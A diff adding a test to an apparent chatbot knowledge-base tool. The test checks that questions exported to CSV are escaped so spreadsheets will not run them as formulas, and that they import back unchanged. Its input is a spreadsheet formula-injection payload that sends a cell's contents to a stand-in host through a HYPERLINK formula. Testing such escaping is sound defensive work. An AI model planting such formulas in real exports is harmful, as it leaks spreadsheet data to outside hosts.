@@ -786,6 +786,30 @@ def test_unanswered_questions_go_back_through_an_import(run, fresh_db_path: Path
                                  "the juice the miners want for AI").stdout
 
 
+def test_unanswered_csv_gives_a_spreadsheet_questions_as_text(run, fresh_db_path: Path,
+                                                               tmp_path: Path) -> None:
+    """Anyone can ask the bot a formula: in the CSV it is text a spreadsheet will not run,
+    and it imports back as it was asked."""
+    formula = '=HYPERLINK("http://example.com/?"&A1,"who won the match")'
+    _asked(fresh_db_path, (formula, "en", "fallback"), ("@everyone who won the match", "en",
+                                                        "fallback"))
+    listed = run("kb", "unanswered", "--db", str(fresh_db_path), "--csv").stdout
+    header, *rows = listed.splitlines()
+    assert sorted(row.split(",1,")[0] for row in rows) == [
+        ',"\'=HYPERLINK(""http://example.com/?""&A1,""who won the match"")",en',
+        ",'@everyone who won the match,en",
+    ]
+    filled = tmp_path / "filled.csv"
+    filled.write_text("\n".join([header, *("planned-ai-power" + row for row in rows)]) + "\n",
+                      encoding="utf-8")
+    assert run("kb", "import", str(filled), "--db", str(fresh_db_path)).exit_code == 0
+    with closing(sqlite3.connect(fresh_db_path)) as db:
+        imported = {text for (text,) in db.execute(
+            "SELECT text FROM phrasings WHERE entry_id = 'planned-ai-power'")}
+    assert {formula, "@everyone who won the match"} <= imported
+    assert not any(text.startswith("'") for text in imported)
+
+
 def test_unanswered_on_a_terminal_shows_how_far_it_is(fresh_db_path: Path,
                                                       monkeypatch) -> None:
     """Each question is asked again, minutes for thousands: a terminal sees a bar."""
